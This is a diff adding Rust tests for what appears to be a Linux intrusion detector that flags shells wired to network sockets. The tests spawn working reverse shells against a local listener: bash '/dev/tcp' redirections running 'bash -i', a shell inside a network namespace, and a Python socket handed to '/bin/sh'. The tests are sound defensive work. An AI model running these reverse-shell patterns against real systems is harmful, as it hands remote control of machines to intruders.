@@ -161,6 +161,92 @@ fn the_shells_of_ssh_and_the_scripts_of_inetd_are_quiet() {
     }
 }
 
+/// The process below this one that runs with these arguments.
+fn below(pid: u32, arguments: &[u8]) -> u32 {
+    let mut found = None;
+    wait_for("the shell below it", || {
+        let children =
+            std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
+        found = children.split_whitespace().filter_map(|child| child.parse().ok()).find(|child: &u32| {
+            std::fs::read(format!("/proc/{child}/cmdline")).is_ok_and(|line| line == arguments)
+        });
+        found.is_some()
+    });
+    found.unwrap()
+}
+
+#[test]
+fn a_script_that_goes_out_to_somebody_is_no_excuse_for_its_shell_but_may_print_there() {
+    let mut eyes = Eyes::new();
+    let folder = TempDir::new().unwrap();
+    let script = folder.path().join("wrap");
+    std::fs::write(&script, "bash -i\nexit\n").unwrap();
+    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = intruder.local_addr().unwrap().port();
+    let out =
+        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash {} <&3 >&3 2>/dev/null", script.display());
+    let wrapped = start(Command::new("/bin/bash").args(["-c", &out]), "/bin/bash");
+    let _connection = intruder.accept().unwrap();
+    let shell = below(wrapped.pid(), b"bash\0-i\0");
+    // We are above both of them and listen, but not where its own end is.
+    let found = eyes.one(Code::SocketShell, shell);
+    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
+    // A report that is sent away.
+    std::fs::write(&script, "sh -c 'sleep 600; exit'\nexit\n").unwrap();
+    let report = format!("exec bash {} </dev/null >/dev/tcp/127.0.0.1/{port}", script.display());
+    let report = start(Command::new("/bin/bash").args(["-c", &report]), "/bin/bash");
+    let _report = intruder.accept().unwrap();
+    let shell = below(report.pid(), b"sh\0-c\0sleep 600; exit\0");
+    assert_eq!(eyes.of(shell), []);
+}
+
+#[test]
+fn a_shell_in_a_network_namespace_of_its_own_is_found_on_the_connection_it_was_handed() {
+    let mut eyes = Eyes::new();
+    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = intruder.local_addr().unwrap().port();
+    let script =
+        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec unshare -rn bash -c 'read x; exit' <&3 >&3 2>&3");
+    let mut shell = Command::new("/bin/bash");
+    let shell = Running::start(shell.args(["-c", &script]));
+    let (_connection, _) = intruder.accept().unwrap();
+    let own = std::fs::read_link("/proc/self/ns/net").unwrap();
+    let line = format!("/proc/{}/cmdline", shell.pid());
+    let link = format!("/proc/{}/ns/net", shell.pid());
+    let mut is_refused = false;
+    wait_for("a shell elsewhere", || {
+        is_refused = !Path::new(&link).exists();
+        let is_shell = std::fs::read(&line).is_ok_and(|line| line.starts_with(b"bash\0-c\0read"));
+        is_refused || (is_shell && std::fs::read_link(&link).is_ok_and(|link| link != own))
+    });
+    if left_out("user namespaces", !is_refused) {
+        return;
+    }
+    let found = eyes.one(Code::SocketShell, shell.pid());
+    assert!(found.evidence["how"][0].as_str().unwrap().ends_with(&format!("to 127.0.0.1:{port}")));
+}
+
+#[test]
+fn a_socket_that_becomes_a_connection_later_is_found() {
+    let mut eyes = Eyes::new();
+    let intruder = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = intruder.local_addr().unwrap().port();
+    // Whoever started the shell holds the socket too, and connects it when asked.
+    let program = format!(
+        "import socket,subprocess,sys\ns=socket.socket()\np=subprocess.Popen(['/bin/sh','-c','sleep 600; exit'],stdin=s,stdout=s)\nprint(p.pid,flush=True)\nsys.stdin.readline()\ns.connect(('127.0.0.1',{port}))\nprint('connected',flush=True)\np.wait()"
+    );
+    let mut command = Command::new(PYTHON);
+    command.args(["-c", &program]).stdin(Stdio::piped()).stdout(Stdio::piped());
+    let mut opener = Running::start(&mut command);
+    let mut answers = BufReader::new(opener.0.stdout.take().unwrap()).lines();
+    let shell: u32 = answers.next().unwrap().unwrap().parse().unwrap();
+    assert_eq!(eyes.of(shell), []);
+    drop(opener.0.stdin.take());
+    assert_eq!(answers.next().unwrap().unwrap(), "connected");
+    let _connection = intruder.accept().unwrap();
+    assert_eq!(eyes.one(Code::SocketShell, shell).evidence["what"], "127.0.0.1");
+}
+
 #[test]
 fn a_library_from_where_others_may_write_is_found_and_others_are_not() {
     let mut eyes = Eyes::new();
